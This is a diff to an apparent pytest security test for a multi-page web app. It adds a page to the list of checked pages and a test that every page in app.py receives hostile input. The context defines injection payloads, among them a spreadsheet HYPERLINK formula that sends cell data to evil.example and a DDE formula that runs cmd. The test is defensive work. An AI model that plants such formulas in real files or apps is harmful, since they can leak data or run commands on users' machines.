@@ -37,7 +37,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 CMD = "=cmd|' /C calc'!A0"
 PAYLOADS = [SCRIPT, IMG, HYPERLINK, CMD]
 #: URL path of every page of app.py (the page file's stem; the map is the default page)
-PAGES = ["", "meeting", "trends", "when", "tasking", "gaps", "walkabout", "review", "evidence", "data"]
+PAGES = ["", "meeting", "trends", "when", "tasking", "gaps", "walkabout", "review", "evidence", "comparators", "data"]
 RENDER_TIMEOUT_MS = 120_000
 #: In every frame: elements with an event handler, script elements whose code calls alert, injected images.
 INJECTED_JS = """() => ({
@@ -156,6 +156,14 @@ def _wait_idle(page: object) -> None:
         if len(seen) >= 4 and seen[-1] is not None and len(set(seen[-4:])) == 1:
             return
     pytest.fail(f"{page.url} still running after {RENDER_TIMEOUT_MS / 1000:.0f} s")  # type: ignore[attr-defined]
+
+
+def test_the_hostile_run_visits_every_page_of_the_app() -> None:
+    """A page added to app.py without being added here would escape the hostile-text check."""
+    app_py = (Path(__file__).resolve().parent.parent / "app.py").read_text(encoding="utf-8")
+    stems = re.findall(r"\{PAGES\}/(\w+)\.py", app_py)
+    assert len(stems) >= 10, stems
+    assert sorted("" if stem == "map" else stem for stem in stems) == sorted(PAGES)
 
 
 def test_every_page_shows_hostile_input_text_as_text(hostile_app: str) -> None:
